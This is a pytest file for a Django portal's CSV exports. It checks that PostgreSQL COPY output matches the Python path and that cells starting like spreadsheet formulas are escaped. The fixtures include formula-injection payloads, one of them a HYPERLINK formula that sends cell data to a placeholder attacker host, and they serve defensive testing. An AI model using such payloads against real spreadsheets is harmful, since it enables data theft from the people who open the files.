"""The CSV exports written by PostgreSQL's COPY (incidents/exports/pgcopy.py) are the Python
path's, byte for byte: same rows, order, cells, escaping, quoting and line ends, for any text
the record holds, with and without filters, in both languages."""

import datetime
import re

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from incidents import services
from incidents.dates import DatePrecision
from incidents.exports import csvfile, pgcopy
from incidents.models import (
    Category,
    CriminalCase,
    Incident,
    Perpetrator,
    PerpetratorType,
    Person,
    Region,
    Victim,
)

from .factories import IncidentFactory, VictimFactory

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(
        connection.vendor != "postgresql", reason="COPY is PostgreSQL's: SQLite keeps Python's"
    ),
]

CSV = "/incidents/export.csv"
SDG = "/incidents/export/sdg-16-10-1.csv"
KYIV = datetime.timezone(datetime.timedelta(hours=2))

# Text that a CSV or a spreadsheet treats specially, in any arrangement: quotes, commas,
# line breaks, formula starts, numbers that stay numbers, Cyrillic, emoji.
SPECIAL = list("=+-@|%\t\r\n\",;' .0123456789") + ["Київ", "ґ", "😀", "\\", "\u2028", "\x0b"]
TEXT = st.one_of(
    st.lists(st.sampled_from([*SPECIAL, "a", "b", "Z"]), max_size=10).map("".join),
    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=12),
    st.sampled_from(["", "-5", "-5\n", "-1,2.3", "+5", "-", "=1+2", "\t=cmd", "@SUM(A1)", "|x|"]),
)
LEAVES = ["killing", "detention", "beating", "threats", "censorship", "cyberattack"]


def body(response) -> bytes:
    assert response.status_code == 200
    assert response.streaming
    raw = b"".join(response.streaming_content)
    # The one line that may differ between two requests: the second it was made.
    return re.sub(rb"# generated_at,[^\r]*\r\n", b"", raw, count=1)


def both(client, monkeypatch, url, params):
    """(Python's bytes, COPY's bytes) of one export; COPY's alike whether it aggregates only
    the exported incidents' links (a small export) or every link (a large one)."""
    with monkeypatch.context() as patch:
        patch.setattr(pgcopy, "available", lambda queryset: False)
        python = body(client.get(url, params))
    copy = body(client.get(url, params))
    with monkeypatch.context() as patch:
        patch.setattr(pgcopy, "RESTRICT_BELOW", 0)
        assert body(client.get(url, params)) == copy
    return python, copy


incident_spec = st.fixed_dictionaries(
    {
        "title": TEXT,
        "lead": TEXT,
        "place": TEXT,
        "country": TEXT,
        "language": st.sampled_from(["uk", "en"]),
        "region": st.sampled_from(["kyiv", "lviv", "abroad"]),
        "categories": st.lists(st.sampled_from(LEAVES), min_size=1, max_size=3, unique=True),
        "perpetrator_type": st.sampled_from(PerpetratorType.values),
        "motive": st.sampled_from(["confirmed", "unconfirmed"]),
        "is_attempt": st.booleans(),
        "precision": st.sampled_from(DatePrecision.values),
        "until_days": st.sampled_from([None, 40, 400]),
        "occurred_on": st.dates(datetime.date(1995, 1, 1), datetime.date(2025, 12, 31)),
        # Summer and winter time, whole seconds and microseconds.
        "published_at": st.datetimes(
            datetime.datetime(2000, 1, 1), datetime.datetime(2025, 12, 31)
        ).map(lambda d: d.replace(tzinfo=datetime.UTC)),
        "perpetrators": st.lists(st.sampled_from(Perpetrator.Category.values), max_size=3),
        "cases": st.lists(
            st.tuples(
                st.sampled_from(CriminalCase.Status.values),
                st.sampled_from(["", *CriminalCase.Impunity.values]),
                st.none() | st.dates(datetime.date(2000, 1, 1), datetime.date(2025, 1, 1)),
            ),
            max_size=2,
        ),
        "victims": st.lists(
            st.fixed_dictionaries(
                {
                    "name": TEXT,
                    "is_anonymous": st.booleans(),
                    "killed": st.booleans(),
                    "occupation": st.sampled_from(["", *Victim.Occupation.values]),
                    "injury": st.sampled_from(["", *Victim.Injury.values]),
                    "sex": st.sampled_from(["", *Person.Sex.values]),
                    "details_withheld": st.booleans(),
                    "detained": st.booleans(),
                }
            ),
            max_size=2,
        ),
    }
)


def build(spec, n):
    region = Region.objects.get(slug=spec["region"])
    incident = IncidentFactory(
        title=spec["title"],
        lead=spec["lead"],
        place=spec["place"],
        country=spec["country"] or ("Poland" if spec["region"] == "abroad" else ""),
        language=spec["language"],
        region=region,
        categories=list(Category.objects.filter(slug__in=spec["categories"])),
        perpetrator_type=spec["perpetrator_type"],
        motive=spec["motive"],
        is_attempt=spec["is_attempt"],
        occurred_precision=spec["precision"],
        occurred_on=spec["occurred_on"],
        occurred_until=None
        if spec["until_days"] is None
        else spec["occurred_on"] + datetime.timedelta(days=spec["until_days"]),
        published_at=spec["published_at"],
        slug=f"copy-{n}",
    )
    for category in spec["perpetrators"]:
        Perpetrator.objects.create(incident=incident, category=category)
    for status, impunity, opened_on in spec["cases"]:
        CriminalCase.objects.create(
            incident=incident, status=status, impunity=impunity, opened_on=opened_on
        )
    for victim in spec["victims"]:
        person = Person.objects.create(
            sex=victim["sex"], details_withheld=victim["details_withheld"]
        )
        VictimFactory(
            incident=incident,
            person=person,
            name=victim["name"],
            is_anonymous=victim["is_anonymous"],
            killed=victim["killed"],
            occupation=victim["occupation"],
            injury=victim["injury"],
            detained_from=spec["occurred_on"] if victim["detained"] else None,
        )
    services.incidents_refresh(ids=[incident.pk])


FILTERS = [
    {},
    {"region": "kyiv"},
    {"languages": "all"},
    {"category": "beating"},
    {"group": "physical-aggression", "perpetrator": "police"},
    {"year": "2020"},
    {"date_from": "2010-01-01", "date_to": "2022-12-31"},
    {"verification": "sourced"},
    {"no_verdict": "12"},
    {"q": "Київ"},
    {"region": "abroad", "languages": "all", "page": "2"},
]


@settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    specs=st.lists(incident_spec, min_size=1, max_size=5),
    params=st.sampled_from(FILTERS),
    prefix=st.sampled_from(["", "/en"]),
)
def test_copy_writes_the_python_paths_bytes(client, monkeypatch, specs, params, prefix):
    with transaction.atomic():
        for n, spec in enumerate(specs):
            build(spec, n)
        for url in (CSV, SDG):
            python, copy = both(client, monkeypatch, prefix + url, params)
            assert copy == python, url
        transaction.set_rollback(True)


@pytest.mark.parametrize("url", [CSV, SDG])
@pytest.mark.parametrize("prefix", ["", "/en"])
def test_a_varied_record_is_written_alike_with_every_filter(client, monkeypatch, url, prefix):
    """Every filter, on one record built with every awkward case at once."""
    evil = ['=HYPERLINK("x")', '"quoted", and, commas', "line\nbreak", "\tTab", "-5", "😀"]
    for n, text in enumerate(evil):
        build(
            {
                "title": text,
                "lead": evil[n - 1],
                "place": evil[n - 2],
                "country": "",
                "language": "uk" if n % 3 else "en",
                "region": ["kyiv", "lviv", "abroad"][n % 3],
                "categories": LEAVES[n % 6 : n % 6 + 2],
                "perpetrator_type": "police" if n % 2 else "unknown",
                "motive": "confirmed",
                "is_attempt": bool(n % 2),
                "precision": DatePrecision.values[n % 4],
                "until_days": [None, 40][n % 2],
                "occurred_on": datetime.date(2010 + n, 1 + n, 1 + n),
                "published_at": datetime.datetime(2020, 1 + n, 2, 3, 4, 5, n * 1000, tzinfo=KYIV),
                "perpetrators": ["state", "unknown", "state"][: n % 4],
                "cases": [("verdict", "partial", None), ("investigating", "", None)][: n % 3],
                "victims": [
                    {
                        "name": text,
                        "is_anonymous": bool(k),
                        "killed": n == 1,
                        "occupation": "journalist",
                        "injury": "",
                        "sex": "female",
                        "details_withheld": False,
                        "detained": bool(k),
                    }
                    for k in range(n % 3)
                ],
            },
            n,
        )
    for params in FILTERS:
        python, copy = both(client, monkeypatch, prefix + url, params)
        assert copy == python, params


def test_the_sql_escaping_is_csvfiles():
    """The SQL form of the formula rule gives what csvfile gives, for any text: drop it (or
    a character of FORMULA_STARTS) from the SQL and this fails."""

    def sql(text):
        with connection.cursor() as cursor:
            cursor.execute(
                f"SELECT {pgcopy.safe('s.v')} FROM (SELECT %s::text AS v) s",  # noqa: S608
                [text],
            )
            return cursor.fetchone()[0]

    @settings(max_examples=300, deadline=None)
    @given(text=TEXT)
    def check(text):
        assert sql(text) == (csvfile.cell_text(text) or None)

    check()
    for text in ["=1+2", "+1", "@A1", "-x", "|x|y", "%x", "\t=1", "\r=1"]:
        assert sql(text).startswith("'"), text


def test_copy_writes_a_formula_as_text(client):
    """Checked on COPY's own output, not against the Python path."""
    IncidentFactory(title='=HYPERLINK("https://evil.example/?x="&A1,"click")', lead="@SUM(1|2)")
    raw = b"".join(client.get(CSV).streaming_content).decode("utf-8-sig")
    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"' in raw
    assert ",'@SUM(1\\|2)\r\n" in raw
    assert "=HYPERLINK" not in raw.replace("'=HYPERLINK", "")


@pytest.mark.parametrize("url", [CSV, SDG])
def test_the_response_is_the_same_download(client, monkeypatch, url):
    IncidentFactory()
    with monkeypatch.context() as patch:
        patch.setattr(pgcopy, "available", lambda queryset: False)
        python = client.get(url)
    copy = client.get(url)
    assert copy.streaming
    for header in ("Content-Type", "Content-Disposition", "X-Content-Type-Options"):
        assert copy[header] == python[header]
    first = b"".join(copy.streaming_content).split(b"\r\n")[0]
    assert first.startswith(b"\xef\xbb\xbf") and b"# IMI Portal" in first


@pytest.mark.parametrize("url", [CSV, SDG])
def test_copy_runs_a_fixed_number_of_queries(client, url):
    """One COPY for the rows, however many: the export stays flat in queries."""

    def queries():
        with CaptureQueriesContext(connection) as context:
            b"".join(client.get(url).streaming_content)
        return [query["sql"] for query in context.captured_queries]

    IncidentFactory(categories=list(Category.objects.filter(slug="beating")))
    few = queries()
    for _ in range(30):
        incident = IncidentFactory(categories=list(Category.objects.filter(slug__in=LEAVES)))
        VictimFactory(incident=incident)
        Perpetrator.objects.create(incident=incident, category="state")
    many = queries()
    assert len(many) == len(few)
    assert sum(sql.startswith("COPY (") for sql in many) == 1
    assert Incident.objects.count() == 31


def test_an_odd_taxonomy_is_written_alike(client, monkeypatch):
    """Categories ranked across their groups, equal positions told apart by slug (in the
    database's collation), and slugs that start like a formula: the categories and groups
    cells are still Python's."""
    Category.objects.filter(slug="censorship").update(position=103)
    Category.objects.filter(slug="cyberattack").update(position=104)
    Category.objects.filter(slug="threats").update(position=100, slug="-threats")
    Category.objects.filter(slug="physical-aggression").update(slug="@physical")
    combos = [
        ["killing", "censorship", "beating"],
        ["-threats", "killing"],
        ["cyberattack", "beating", "detention"],
        ["censorship"],
    ]
    for n, combo in enumerate(combos):
        IncidentFactory(categories=list(Category.objects.filter(slug__in=combo)), slug=f"odd-{n}")
    for url in (CSV, SDG):
        for params in ({}, {"category": "beating"}):
            python, copy = both(client, monkeypatch, url, params)
            assert copy == python, (url, params)
    # The escaped forms were written (the cells that start like a formula were there).
    written = body(client.get(CSV))
    assert b",'@physical\\|censorship-access," in written
    assert b",'-threats\\|killing," in written


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/incidents/export.csv", "/incidents/export/sdg-16-10-1.csv"])
def test_a_search_that_finds_nothing_exports_an_empty_file_not_an_error(client, path):
    IncidentFactory(title="Something else")
    response = client.get(path, {"q": "nothing-like-this"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "Something else" not in body
